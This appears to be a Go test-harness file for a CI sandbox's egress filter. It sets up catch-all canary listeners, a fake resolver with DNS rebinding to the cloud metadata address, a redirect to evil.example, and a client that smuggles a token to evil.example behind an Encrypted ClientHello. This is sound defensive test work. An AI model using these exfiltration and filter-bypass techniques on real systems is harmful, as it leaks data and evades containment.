package bypass

import (
	"bufio"
	"context"
	"crypto/ecdh"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/binary"
	"encoding/pem"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/mayfly-ci/mayfly/sandbox/egress"
)

// A canary is everything outside. It keeps what arrives.
type canary struct {
	tls *tls.Config
	ca  string // PEM

	rebound atomic.Int64 // questions for rebind.example
	mu      sync.Mutex
	heard   []byte
	asked   []string // names that the gateway looked up
}

// reached says whether word has arrived, by whatever way.
func (c *canary) reached(word string) bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	return strings.Contains(string(c.heard), word)
}

func (c *canary) hear(p []byte) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.heard = append(append(c.heard, p...), '\n')
}

// listen starts the canary at every address of the world.
func listen(t *testing.T) *canary {
	t.Helper()
	c := new(canary)
	c.certificate(t)
	var wg sync.WaitGroup
	var closers []interface{ Close() error }
	t.Cleanup(func() {
		for _, l := range closers {
			_ = l.Close() // ends its goroutine
		}
		wg.Wait()
	})
	for _, port := range []string{"22", "53", "80", "443", "853", "8080", "8443"} {
		l, err := net.Listen("tcp", ":"+port) // both families
		must(t, err)
		closers = append(closers, l)
		wg.Go(func() {
			for {
				conn, err := l.Accept()
				if err != nil {
					return
				}
				wg.Go(func() { c.serve(conn) })
			}
		})
	}
	for _, at := range []string{
		"udp 192.0.2.53:53", "udp " + evilAddress + ":53", "udp " + evilAddress + ":443", "udp " + evilAddress + ":853", "udp [" + evilAddress6 + "]:53",
		"ip4:icmp 0.0.0.0", "ip6:ipv6-icmp ::", "ip4:132 0.0.0.0", "ip4:253 0.0.0.0",
	} {
		network, address, _ := strings.Cut(at, " ")
		conn, err := net.ListenPacket(network, address)
		must(t, err)
		closers = append(closers, conn)
		wg.Go(func() {
			p := make([]byte, 65536)
			for {
				n, from, err := conn.ReadFrom(p)
				if errors.Is(err, net.ErrClosed) {
					return
				}
				c.hear(p[:n])
				if reply := c.reply(p[:n]); reply != nil && network == "udp" {
					_, _ = conn.WriteTo(reply, from) // nobody may be there any more
				}
			}
		})
	}
	return c
}

// serve takes a connection: TLS if it begins so, and HTTP as far as it goes.
func (c *canary) serve(conn net.Conn) {
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(patience))
	head := bufio.NewReader(conn)
	if first, err := head.Peek(1); err == nil && first[0] == 22 {
		s := tls.Server(&buffered{conn, head}, c.tls)
		if s.Handshake() != nil {
			return
		}
		c.hear([]byte("server name " + s.ConnectionState().ServerName))
		head, conn = bufio.NewReader(s), s
	}
	p, request := make([]byte, 65536), ""
	for {
		n, err := head.Read(p)
		if n > 0 {
			c.hear(p[:n])
		}
		if err != nil {
			return
		}
		if request += string(p[:n]); strings.HasPrefix(request, "SSH-") {
			return
		}
		if !whole(request) {
			continue
		}
		answer := "HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nok\n"
		if rest, found := strings.CutPrefix(request, "GET /away/"); found {
			token, _, _ := strings.Cut(rest, " ")
			answer = "HTTP/1.1 302 Found\r\nLocation: http://evil.example/moved/" + token + "\r\nContent-Length: 0\r\n\r\n"
		}
		if _, err := conn.Write([]byte(answer)); err != nil || strings.HasPrefix(request, "CONNECT ") {
			return
		}
		request = ""
	}
}

// whole says whether a request has ended, to a server that believes all of it.
func whole(request string) bool {
	head, body, found := strings.Cut(request, "\r\n\r\n")
	if strings.Contains(head, "chunked") {
		return strings.Contains(body, "0\r\n\r\n")
	}
	if _, length, given := strings.Cut(head, "Content-Length: "); given {
		first, _, _ := strings.Cut(length, "\r\n")
		n, err := strconv.Atoi(first)
		return found && (err != nil || len(body) >= n)
	}
	return found
}

// buffered is a connection of which some was read already.
type buffered struct {
	net.Conn
	head *bufio.Reader
}

func (b *buffered) Read(p []byte) (int, error) { return b.head.Read(p) }

// addresses are what a name has. What the two halves of an attack resolve to is
// the same: what rebind.example is changes with each question.
func (c *canary) addresses(name string) []netip.Addr {
	name = strings.ToLower(strings.TrimSuffix(name, "."))
	switch {
	case name == "good.example", name == "shared.example", name == "repo.example", name == "tenant.example":
		return []netip.Addr{netip.MustParseAddr(goodAddress)}
	case name == "evil.example", strings.HasSuffix(name, ".evil.example"), strings.HasPrefix(name, "xn--"):
		return []netip.Addr{netip.MustParseAddr(evilAddress)}
	case name == "rebind.example":
		all := []string{"10.77.0.1", "127.0.0.1", "169.254.169.254"}
		return []netip.Addr{netip.MustParseAddr(all[int(c.rebound.Add(1))%len(all)])}
	case name == "meta.example", name == "metadata.google.internal":
		return []netip.Addr{netip.MustParseAddr("169.254.169.254")}
	}
	return nil
}

// LookupNetIP is the resolver of the gateway.
func (c *canary) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	c.mu.Lock()
	c.asked = append(c.asked, host)
	c.mu.Unlock()
	if all := c.addresses(host); all != nil {
		return all, nil
	}
	return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
}

// reply answers a DNS question; nil for what is none.
func (c *canary) reply(packet []byte) []byte {
	var m dnsmessage.Message
	if m.Unpack(packet) != nil || m.Response || len(m.Questions) != 1 {
		return nil
	}
	q := m.Questions[0]
	m = dnsmessage.Message{Header: dnsmessage.Header{ID: m.ID, Response: true, RecursionAvailable: true, Authoritative: true}, Questions: m.Questions}
	all := c.addresses(q.Name.String())
	if all == nil {
		m.RCode = dnsmessage.RCodeNameError
	}
	for _, a := range all {
		if q.Type == dnsmessage.TypeA {
			m.Answers = append(m.Answers, dnsmessage.Resource{
				Header: dnsmessage.ResourceHeader{Name: q.Name, Class: q.Class}, Body: &dnsmessage.AResource{A: a.As4()},
			})
		}
	}
	p, err := m.Pack()
	if err != nil {
		return nil
	}
	return p
}

// echSeed is the key of the server for encrypted ClientHellos, which its client
// knows as well: only what it hides is tested.
const echSeed = "a key that is of 32 bytes exactly"

// echConfig is an ECHConfig (RFC 9849, 4) for the public name good.example.
func echConfig() (config []byte, key *ecdh.PrivateKey, err error) {
	if key, err = ecdh.X25519().NewPrivateKey([]byte(echSeed)[:32]); err != nil {
		return nil, nil, err
	}
	const public = "good.example"
	b := append([]byte{7, 0, 0x20, 0, 32}, key.PublicKey().Bytes()...) // X25519
	b = append(b, 0, 4, 0, 1, 0, 1, 32, byte(len(public)))             // HKDF-SHA256, AES-128-GCM
	b = append(append(b, public...), 0, 0)
	return append(binary.BigEndian.AppendUint16([]byte{0xfe, 0x0d}, uint16(len(b))), b...), key, nil
}

func (c *canary) certificate(t *testing.T) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	must(t, err)
	cert := &x509.Certificate{
		DNSNames:  []string{"good.example", "repo.example", "evil.example", "shared.example", "tenant.example"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature,
	}
	der, err := x509.CreateCertificate(rand.Reader, cert, cert, key.Public(), key)
	must(t, err)
	config, secret, err := echConfig()
	must(t, err)
	c.tls = &tls.Config{
		Certificates:             []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}},
		EncryptedClientHelloKeys: []tls.EncryptedClientHelloKey{{Config: config, PrivateKey: secret.Bytes()}},
	}
	c.ca = string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}))
}

// client connects to an address and asks for evil.example, in a ClientHello
// whose encrypted part alone says so. The token is its argument.
func client(address string) error {
	config, _, err := echConfig()
	if err != nil {
		return err
	}
	list := append(binary.BigEndian.AppendUint16(nil, uint16(len(config))), config...)
	conn, err := tls.Dial("tcp", address, &tls.Config{
		ServerName: "evil.example", EncryptedClientHelloConfigList: list, MinVersion: tls.VersionTLS13,
		InsecureSkipVerify: true, // it is not verified who answers
	})
	if err != nil {
		return err
	}
	defer conn.Close()
	if _, err := fmt.Fprintf(conn, "GET /%s HTTP/1.1\r\nHost: evil.example\r\n\r\n", os.Args[1]); err != nil {
		return err
	}
	_, err = conn.Read(make([]byte, 1))
	return err
}

// A ledger keeps lines.
type ledger struct {
	mu    sync.Mutex
	lines []egress.Line
}

func (l *ledger) write(line egress.Line) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.lines = append(l.lines, line)
	return nil
}

// since returns the lines after the first n.
func (l *ledger) since(n int) []egress.Line {
	l.mu.Lock()
	defer l.mu.Unlock()
	return slices.Clone(l.lines[n:])
}
